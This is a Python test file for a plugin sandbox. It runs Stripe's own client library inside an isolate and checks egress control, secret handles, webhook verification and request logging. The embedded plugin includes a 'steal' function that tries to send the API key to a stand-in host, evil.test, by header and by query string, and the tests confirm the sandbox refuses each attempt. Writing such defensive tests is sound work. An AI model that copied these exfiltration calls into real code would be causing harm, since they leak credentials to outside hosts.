"""Libraries that know nothing of us, unmodified and packed as an author packs them, inside a sealed isolate."""

from __future__ import annotations

import asyncio
import hashlib
import hmac
import json
import os
import socket
import time
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from sqlalchemy import text

from jackfield import Platform, Settings, ensure_key_file
from jackfield.extension_points import FunctionResult
from jackfield.settings import EgressSettings
from jackfield_cli.keys import create_key
from jackfield_cli.pack import pack_project
from tests.server.egress.stripe_server import KEY, Stripe
from tests.server.egress.wheels import locked
from tests.server.egress.world import Dns, Received, Web, certificate, ok

pytestmark = pytest.mark.asyncio(loop_scope="module")

LEVEL = "strict" if os.geteuid() == 0 else "unprivileged"
WEBHOOK_SECRET = "whsec_of_the_endpoint"
NEEDED = (
    "stripe", "requests", "urllib3", "certifi", "idna", "charset-normalizer", "typing-extensions", "httpx", "httpcore",
    "h11", "anyio",
)  # fmt: skip

SOURCE = """
import http.client
import urllib.error
import urllib.request
from typing import Annotated, Any

import httpx
import requests
import stripe
import urllib3

import jackfield_sdk as jf

plugin = jf.Plugin(
    "payments", version="1.0.0", permissions=["http:api.stripe.test:PORT", "http:evil.test:PORT"],
)


@plugin.config
class Config:
    api_key: Annotated[jf.Secret, jf.Hosts("api.stripe.test:PORT")]
    webhook_secret: jf.Secret
    base: str


def client(ctx: jf.Context) -> stripe.StripeClient:
    return stripe.StripeClient(ctx.config.api_key.ref(), base_addresses={"api": ctx.config.base}, max_network_retries=1)


@plugin.function()
def create(ctx: jf.Context, email: str) -> str:
    return client(ctx).v1.customers.create({"email": email}).id


@plugin.function()
def everybody(ctx: jf.Context, page: int) -> list[str]:
    return [one.email for one in client(ctx).v1.customers.list({"limit": page}).auto_paging_iter()]


@plugin.function()
def pay(ctx: jf.Context, amount: int, method: str, key: str) -> str:
    try:
        intent = client(ctx).v1.payment_intents.create(
            {"amount": amount, "currency": "eur", "payment_method": method, "confirm": True}, {"idempotency_key": key}
        )
    except stripe.CardError as error:
        raise jf.UserError(error.user_message, code=error.code.replace("_", "-")) from error
    return f"{intent.id} {intent.status} {intent.amount}"


@plugin.function()
def webhook(ctx: jf.Context, payload: str, signature: str) -> str:
    try:
        event = stripe.Webhook.construct_event(payload, signature, ctx.config.webhook_secret.reveal())
    except stripe.SignatureVerificationError as error:
        raise jf.UserError("not from Stripe", code="signature-wrong") from error
    return f"{event.type} {event.data.object.id}"


@plugin.function()
def echoed(ctx: jf.Context) -> list[str]:
    balance = client(ctx).v1.balance.retrieve()
    print("the key is", balance["seen"])
    return [balance["seen"], ctx.config.api_key.ref()]


@plugin.function()
def wrong_key(ctx: jf.Context) -> str:
    try:
        stripe.StripeClient("sk_test_wrong", base_addresses={"api": ctx.config.base}).v1.balance.retrieve()
    except stripe.AuthenticationError as error:
        return str(error)
    return "?"


@plugin.function()
def steal(ctx: jf.Context, how: str) -> str:
    if how == "reveal":
        return ctx.config.api_key.reveal()
    handle = ctx.config.api_key.ref()
    headers = {"X-Key": handle}
    if how == "ctx":
        return ctx.http.get("https://evil.test:PORT/", headers=headers).text
    if how == "requests":
        return requests.get("https://evil.test:PORT/", headers=headers).text
    return ctx.http.get("https://evil.test:PORT/?k=" + handle).text


@plugin.function()
def libraries(ctx: jf.Context, url: str) -> dict[str, Any]:
    said: dict[str, Any] = {}
    host, _, path = url.removeprefix("https://").partition("/")
    connection = http.client.HTTPSConnection(host)
    connection.request("POST", "/" + path, body=b"x", headers={"X-Lib": "http.client"})
    answer = connection.getresponse()
    said["http.client"] = [answer.status, answer.getheader("X-Two"), answer.read().decode()]
    connection.request("GET", "/" + path)
    said["again"] = connection.getresponse().read().decode()
    with urllib.request.urlopen(url) as answer:
        said["urllib"] = [answer.status, answer.read().decode()]
    pool = urllib3.PoolManager()
    said["urllib3"] = [pool.request("PUT", url, body=iter([b"a", b"b"])).data.decode() for _ in range(2)]
    with requests.Session() as session:
        answer = session.post(url, json={"a": 1}, auth=("u", "p"), timeout=5)
        said["requests"] = [answer.status_code, answer.text, answer.headers["x-two"]]
        said["streamed"] = b"".join(session.get(url, stream=True).iter_content(3)).decode()
    with httpx.Client() as short:
        said["httpx"] = [short.post(url, data={"a": "b"}).text, short.get(url).headers["x-two"]]
    return said


@plugin.function()
async def asynchronous(ctx: jf.Context, url: str) -> str:
    async with httpx.AsyncClient() as short:
        return (await short.get(url)).text


@plugin.function()
def big(ctx: jf.Context, url: str) -> list[int]:
    response = ctx.http.get(url)
    return [len(response.body), len(set(response.body))]


@plugin.function(timeout_ms=700)
def slow(ctx: jf.Context, url: str) -> str:
    return ctx.http.get(url, timeout_s=60).text


@plugin.function()
def unheard(ctx: jf.Context, url: str) -> list[str]:
    said = []
    for ask in (
        lambda: requests.get(url, proxies={"https": "http://127.0.0.1:1", "http": "http://127.0.0.1:1"}),
        lambda: requests.get(url, cert="client.pem"),
        lambda: httpx.Client(proxy="http://127.0.0.1:1"),
        lambda: httpx.get(url, headers={"Host": "other.test"}) and None,
        lambda: requests.get(url, headers={"Host": "other.test"}),
        lambda: requests.get(url.replace("https", "ftp")),
    ):
        try:
            said.append(str(ask()))
        except Exception as error:
            said.append(f"{type(error).__name__} {getattr(error, 'code', '')}")
    return said


@plugin.function()
def refused(ctx: jf.Context, url: str) -> list[str]:
    said = []
    for ask in (requests.get, httpx.get, lambda u: urllib3.PoolManager().request("GET", u), urllib.request.urlopen):
        try:
            ask(url)
        except Exception as error:
            said.append(f"{type(error).__name__} {getattr(error, 'code', '')}")
    return said
"""


@dataclass
class House:
    platform: Platform
    web: Web
    stripe: Stripe

    async def call(self, function: str, tenant: str = "acme", **arguments: Any) -> FunctionResult:
        return await self.platform.tenant(tenant).call("payments", function, arguments)

    async def value(self, function: str, **arguments: Any) -> Any:
        result = await self.call(function, **arguments)
        assert result.error is None, result.error
        return result.output


@pytest.fixture(scope="module")
def package(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Any, int]:
    """The packed plugin, its key, and the port that its permissions name: once for all tests."""
    project = tmp_path_factory.mktemp("payments")
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port: int = free.getsockname()[1]
    (project / "plugin.py").write_text(SOURCE.replace("PORT", str(port)))
    dependencies = ", ".join(f'"{name}"' for name in NEEDED)
    (project / "pyproject.toml").write_text(
        f'[project]\nname = "payments"\nversion = "1.0.0"\ndependencies = [{dependencies}]\n'
    )
    (project / "requirements.lock").write_text(locked(project, *NEEDED))
    key = create_key(tmp_path_factory.mktemp("keys"))
    path = tmp_path_factory.mktemp("packed") / "payments.jfp"
    pack_project(project, path, key=key)
    return path, key, port


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def running(tmp_path_factory: pytest.TempPathFactory, package: tuple[Path, Any, int]) -> AsyncIterator[House]:
    async with Dns().serving() as dns:
        async for house in _running(tmp_path_factory.mktemp("house"), package, dns):
            yield house


@pytest.fixture
def house(running: House) -> House:
    """The platform, with servers that have seen nothing yet."""
    running.web.received.clear()
    running.web.server_names.clear()
    running.web.connections = 0
    running.stripe.customers.clear()
    running.stripe.intents.clear()
    return running


async def _running(tmp_path: Path, package: tuple[Path, Any, int], dns: Dns) -> AsyncIterator[House]:
    context, authority = certificate(tmp_path / "tls", "api.stripe.test", "evil.test")
    dns.names.update({"api.stripe.test": ["127.0.0.1"], "evil.test": ["127.0.0.1"]})
    path, key, port = package
    async with Web().serving(context, port=port) as web:
        stripe = Stripe()
        stripe.attach(web)
        ensure_key_file(tmp_path / "data")
        egress = EgressSettings(resolver=dns.address, ca_file=authority, allowed=("api.stripe.test", "evil.test"))
        settings = Settings(data_dir=tmp_path / "data", isolation=LEVEL, egress=egress)
        async with Platform(settings) as platform:
            await platform.registry.ensure_publisher("pub", "Pub")
            await platform.registry.add_key("pub", key.public, key.proof("pub"), name="test")

            async def chunks() -> AsyncIterator[bytes]:
                yield path.read_bytes()

            await platform.registry.publish(chunks(), "pub")
            for tenant in ("acme", "rival"):
                await platform.tenants.ensure_tenant(tenant, name=tenant)
                await platform.lifecycle.install(
                    tenant,
                    "payments",
                    grants=[f"http:api.stripe.test:{web.port}", f"http:evil.test:{web.port}", "storage", "log",
                            "secrets:webhook_secret"],
                    config={
                        "api_key": KEY, "webhook_secret": WEBHOOK_SECRET, "base": f"https://api.stripe.test:{web.port}",
                    },
                )  # fmt: skip
            yield House(platform, web, stripe)


async def test_stripes_own_package_works_unmodified(house: House) -> None:
    assert await house.value("create", email="a@example.com") == "cus_1"
    for name in "bcdefg":
        await house.value("create", email=f"{name}@example.com")
    everybody = await house.value("everybody", page=3)
    assert everybody == [f"{name}@example.com" for name in "gfedcba"]
    assert len([got for got in house.web.received if got.method == "GET"]) == 3

    assert await house.value("pay", amount=1200, method="pm_card_visa", key="order-1") == "pi_1 succeeded 1200"
    assert await house.value("pay", amount=1200, method="pm_card_visa", key="order-1") == "pi_1 succeeded 1200"
    assert await house.value("pay", amount=900, method="pm_card_visa", key="order-2") == "pi_2 succeeded 900"

    declined = await house.call("pay", amount=1, method="pm_card_chargeDeclined", key="order-3")
    assert declined.error is not None
    assert (declined.error.code, declined.error.message) == ("card-declined", "Your card was declined.")

    # What Stripe's package does when the other side stumbles, it does here.
    house.stripe.fails = [500]
    assert await house.value("create", email="h@example.com") == "cus_8"

    # The key itself never was in the isolate, and all of it came over TLS that the broker spoke.
    assert {got.headers["authorization"] for got in house.web.received} == {f"Bearer {KEY}"}
    assert set(house.web.server_names) <= {"api.stripe.test"}


async def test_webhooks_of_stripe_are_verified(house: House) -> None:
    event = {"id": "evt_1", "object": "event", "type": "payment_intent.succeeded",
             "data": {"object": {"id": "pi_9", "object": "payment_intent"}}}  # fmt: skip
    payload, now = json.dumps(event), int(time.time())
    digest = hmac.new(WEBHOOK_SECRET.encode(), f"{now}.{payload}".encode(), hashlib.sha256).hexdigest()
    said = await house.value("webhook", payload=payload, signature=f"t={now},v1={digest}")
    assert said == "payment_intent.succeeded pi_9"
    forged = await house.call("webhook", payload=payload, signature=f"t={now},v1={'0' * 64}")
    assert forged.error is not None
    assert forged.error.code == "signature-wrong"


async def test_a_secret_stays_outside_whatever_comes_back(house: House) -> None:
    seen, handle = await house.value("echoed")
    assert seen == f"Bearer {handle}"
    assert "Invalid API Key provided: Bearer sk_test_wrong" in await house.value("wrong_key")
    await house.platform.recorder.flush()
    kept = b"".join(path.read_bytes() for path in (house.platform.settings.data_dir).rglob("*") if path.is_file())
    assert b"the key is" in kept
    assert KEY.encode() not in kept


@pytest.mark.parametrize(("how", "code"), [
    ("reveal", "permission-denied"), ("ctx", "secret-refused"), ("query", "secret-refused"),
    ("requests", "secret-refused"),
])  # fmt: skip
async def test_a_secret_goes_to_its_hosts_alone(house: House, how: str, code: str) -> None:
    result = await house.call("steal", how=how)
    assert result.error is not None
    assert result.error.code == code
    assert house.web.connections == 0


async def test_handles_differ_from_tenant_to_tenant(house: House) -> None:
    mine, theirs = await house.call("echoed"), await house.call("echoed", tenant="rival")
    assert theirs.error is None, theirs.error
    assert mine.output[1] != theirs.output[1]
    assert (await house.call("echoed")).output[1] == mine.output[1]


async def test_libraries_of_all_kinds_work(house: House) -> None:
    house.web.answers["/lib"] = lambda got: ok(f"{got.method} {got.body.decode()}".encode(), "X-Two: 2")
    url = f"https://api.stripe.test:{house.web.port}/lib"
    said = await house.value("libraries", url=url)
    assert said == {
        "http.client": [200, "2", "POST x"], "again": "GET ", "urllib": [200, "GET "], "urllib3": ["PUT ab"] * 2,
        "requests": [200, 'POST {"a": 1}', "2"], "streamed": "GET ", "httpx": ["POST a=b", "2"],
    }  # fmt: skip
    assert await house.value("asynchronous", url=url) == "GET "


async def test_large_responses_come_in_pieces(house: House) -> None:
    body = bytes(range(256)) * 20_000
    house.web.answers["/big"] = ok(body)
    assert await house.value("big", url=f"https://api.stripe.test:{house.web.port}/big") == [len(body), 256]


async def test_a_library_is_told_when_it_may_not(house: House) -> None:
    said = await house.value("refused", url="https://elsewhere.test/")
    assert said == ["PermissionDeniedError permission-denied"] * 4


async def test_what_a_library_asks_for_in_vain_is_refused_and_not_left_out(house: House) -> None:
    said = await house.value("unheard", url=f"https://api.stripe.test:{house.web.port}/lib")
    assert said == ["CapabilityError request-refused"] * 3 + [
        "None", "CapabilityError request-refused", "InvalidSchema ",
    ]  # fmt: skip
    # httpx goes where its URL says, under the name that its URL says.
    assert [got.headers["host"] for got in house.web.received] == [f"api.stripe.test:{house.web.port}"]


async def test_a_request_ends_with_its_call(house: House) -> None:
    async def never(_got: Received) -> bytes:
        await asyncio.Event().wait()
        return b""

    house.web.answers["/never"] = never
    started = time.monotonic()
    result = await house.call("slow", url=f"https://api.stripe.test:{house.web.port}/never")
    assert time.monotonic() - started < 3
    assert result.error is not None
    assert result.error.code in ("deadline-exceeded", "egress-timeout")


async def test_requests_are_on_record(house: House) -> None:
    await house.value("create", email="secret-address@example.com")
    await house.call("steal", how="query")
    await house.platform.recorder.flush()
    async with house.platform.database.read("acme") as session:
        lines = list(await session.execute(text("SELECT message, fields FROM jf_logs ORDER BY id")))
    said = [line for line in lines if line[0].startswith(("POST ", "GET "))]
    assert any(line[0] == f"POST api.stripe.test:{house.web.port}: 200" for line in said)
    assert any(line[0] == f"GET evil.test:{house.web.port}: secret-refused" for line in said)
    assert not [line for line in said if "?" in str(line) or "jfs_" in str(line) or "secret-address" in str(line)]
